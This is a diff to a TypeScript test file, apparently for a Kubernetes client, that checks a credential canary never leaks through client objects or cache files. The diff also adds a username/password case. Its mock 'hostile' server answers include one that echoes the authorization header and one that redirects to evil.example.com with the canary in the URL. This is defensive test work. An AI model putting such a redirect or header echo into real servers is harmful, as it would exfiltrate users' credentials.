@@ -132,8 +132,8 @@ const hostile: Record<string, Answer> = {
     response
       .writeHead(502, { 'content-type': 'text/html', 'x-seen': String(headers.authorization) })
       .end(`<pre>${JSON.stringify(headers)}</pre>`),
-  'a status that shows them where none reads': (response, request) =>
-    json({ kind: 'Status', message: 7, debug: request.headers }, 403)(response, request),
+  'a status that shows them where none reads': (response, request, socket) =>
+    json({ kind: 'Status', message: 7, debug: request.headers }, 403)(response, request, socket),
   'a redirect that carries it on': response =>
     response.writeHead(302, { location: `https://evil.example.com/?t=${canary}` }).end(),
   'a refusal': failure(401, 'Unauthorized'),
@@ -203,10 +203,10 @@ const documents: Record<string, unknown> = {
   }),
   '/apis': discoveryOf(),
 }
-const served: Answer = (response, request) => {
+const served: Answer = (response, request, socket) => {
   const found = documents[request.url]
   const answer = found === undefined ? failure(404, 'NotFound') : json(found)
-  answer(response, request)
+  answer(response, request, socket)
 }
 
 test('no object of ours shows it, before, during or after its use, and no cache file holds it', async t => {
@@ -215,6 +215,7 @@ test('no object of ours shows it, before, during or after its use, and no cache 
   const users = {
     token: { token: canary },
     'token file': { tokenFile: 'token' },
+    password: { username: 'u', password: canary },
   }
   for (const [what, user] of Object.entries(users)) {
     const config = kubeconfig({ server: url }, user)
